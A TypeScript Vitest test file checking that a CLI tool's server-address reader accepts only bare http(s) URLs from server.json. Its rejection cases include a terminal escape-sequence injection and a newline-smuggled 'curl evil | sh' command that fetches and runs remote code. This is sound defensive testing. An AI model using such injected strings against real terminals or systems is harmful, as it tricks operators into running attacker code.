import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { readServerAddress } from './server-address.js';

describe('server.json (the address the CLI prints links on)', () => {
  const dir = mkdtempSync(join(tmpdir(), 'vigil-server-address-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const recorded = (url: string) => {
    writeFileSync(join(dir, 'server.json'), JSON.stringify({ url, pid: process.pid, startedAt: '' }));
    return readServerAddress(dir);
  };

  it('reads a recorded http(s) address', () => {
    expect(recorded('https://vigil.example.org/')?.url).toBe('https://vigil.example.org');
  });

  it.each([
    // Terminal control sequences would reach the operator's terminal with the printed link.
    'https://vigil.example.org/\u001b]0;owned\u0007',
    'https://vigil.example.org/\nRun: curl evil | sh',
    'https://vigil.example.org /x',
    'https://',
    'https://user:pass@vigil.example.org',
    'https://vigil.example.org/?next=x',
    'https://vigil.example.org/#x',
  ])('ignores a record that is not a bare address: %j', (url) => {
    expect(recorded(url)).toBeUndefined();
  });
});
